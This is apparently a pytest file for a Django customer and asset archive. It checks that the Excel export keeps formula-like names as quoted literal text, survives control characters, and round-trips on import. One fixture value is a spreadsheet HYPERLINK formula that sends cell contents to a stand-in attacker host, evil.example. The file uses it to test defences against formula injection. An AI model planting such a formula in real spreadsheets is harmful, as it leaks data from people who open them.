"""The archive export with hostile stored values (issue 9 defect 5): formulas stay text, control characters
do not break the download, and an export with formula-like names still imports back as the same rows."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from aftersales.assets import services as asset_services
from aftersales.assets.models import Asset
from aftersales.customers import excel, services
from aftersales.customers.excel import ImportReport
from aftersales.customers.models import Customer

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.fixture
def formula_archive(agent):
    """Two customers named like formulas, one with a '+' phone, and an asset whose model starts with '-'."""
    hyperlink = services.customer_create(actor=agent, name=HYPERLINK, address="合肥市庐阳区淮河路390号")
    services.customer_create(actor=agent, name="=1+1", address="南京市玄武区中山路1号", phone="+86 25 8471 0000")
    asset_services.asset_create(
        actor=agent,
        customer_id=hyperlink.pk,
        vendor="华为",
        model="-S5735@L48",
        serial="@2102351234",
        purchased_on=dt.date(2025, 6, 1),
    )
    return hyperlink


def cells(data: bytes, title: str) -> list[list]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data))[title].iter_rows()]


def test_names_that_look_like_formulas_are_exported_as_literal_text(agent, formula_archive):
    data = excel.archive_export(user=agent)
    customers, assets = cells(data, "客户"), cells(data, "设备")
    shown = [(c.value, c.data_type, c.quotePrefix) for row in customers[1:] for c in row if c.column in (1, 7)]
    assert shown == [(HYPERLINK, "s", True), (None, "n", False), ("=1+1", "s", True), ("+86 25 8471 0000", "s", True)]
    model, serial = assets[1][3], assets[1][5]
    assert [(c.value, c.data_type, c.quotePrefix) for c in (model, serial)] == [
        ("-S5735@L48", "s", True),
        ("@2102351234", "s", True),
    ]


def test_a_control_character_in_a_stored_name_does_not_break_the_export_for_everyone(api_as, agent, customer):
    # given: a name with a vertical tab, as text pasted from Word or another program leaves it
    Customer.objects.filter(pk=customer.pk).update(name="合肥市第一人民医院\x0b信息科")
    # when
    response = api_as(agent).get("/api/v1/customers/export.xlsx")
    # then
    assert response.status_code == 200
    assert cells(response.content, "客户")[1][0].value == "合肥市第一人民医院\ufffd信息科"


def test_an_export_with_formula_like_names_imports_back_as_already_present(agent, formula_archive):
    data = excel.archive_export(user=agent)
    report = excel.archive_import(user=agent, file=data)
    assert report == ImportReport(unchanged_customers=2, unchanged_assets=1, errors=[])


def test_an_export_with_formula_like_names_recreates_the_same_rows_in_an_empty_archive(agent, formula_archive):
    data = excel.archive_export(user=agent)
    Asset.objects.all().delete()
    Customer.objects.all().delete()
    report = excel.archive_import(user=agent, file=data)
    assert report == ImportReport(created_customers=2, created_assets=1, errors=[])
    assert sorted(Customer.objects.values_list("name", "phone")) == [
        ("=1+1", "+86 25 8471 0000"),
        (HYPERLINK, ""),
    ]
    assert list(Asset.objects.values_list("model", "serial")) == [("-S5735@L48", "@2102351234")]
